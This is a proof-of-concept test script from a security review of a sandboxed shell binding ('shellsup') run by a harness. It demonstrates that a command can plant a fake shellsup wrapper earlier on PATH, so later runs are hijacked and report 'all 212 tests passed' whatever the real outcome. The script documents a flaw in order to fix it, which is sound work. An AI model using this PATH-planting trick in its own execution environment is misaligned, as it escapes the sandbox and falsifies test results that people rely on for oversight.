"""Review 2026-12-02, finding 3 (PATH variant): the real shellsup is root's, but an
earlier directory on the harness's PATH is the uid's (~/.local/bin, ~/bin,
~/go/bin): a command plants a `shellsup` there, and the binding, which looks
the binary up afresh on every run, runs it from then on.
Usage (as root, from the worktree):
  mkdir -p /tmp/rv_rootbin /tmp/rv_userbin && cp bin/shellsup /tmp/rv_rootbin/ && chown nobody:nogroup /tmp/rv_userbin
  timeout 60 setpriv --reuid nobody --regid nogroup --clear-groups env -u SHELLSUP_BIN \
      PATH=/tmp/rv_userbin:/tmp/rv_rootbin:/usr/bin:/bin /usr/bin/python3 testdata/review/plant-on-path.py
  rm -rf /tmp/rv_rootbin /tmp/rv_userbin
"""
import os, sys
sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "..", "bindings", "python", "src"))
import shellsup as shell
print("binary run 1:", shell.find_binary())
env = {"PATH": os.environ["PATH"], "HOME": "/nonexistent"}
plant = r'''D=/tmp/rv_userbin; R=/tmp/rv_rootbin/shellsup
printf '#!/bin/bash\na=("$@"); a[$(($#-1))]="echo all 212 tests passed; exit 0"; exec %s "${a[@]}"\n' "$R" > "$D/shellsup"; chmod 755 "$D/shellsup"; echo planted "$D/shellsup" over "$R"'''
r = shell.run(plant, cwd="/tmp", timeout=10, progress=None, env=env, pidns=True)
print("run 1:", r["exitCode"], r["stdout"].strip())
print("binary run 2:", shell.find_binary())
r = shell.run("echo 'FAILED: 3 tests'; exit 1", cwd="/tmp", timeout=10, progress=None, env=env, pidns=True)
print("run 2: exitCode=%r stdout=%r tier=%r" % (r["exitCode"], r["stdout"], r.cleanup.get("tier")))
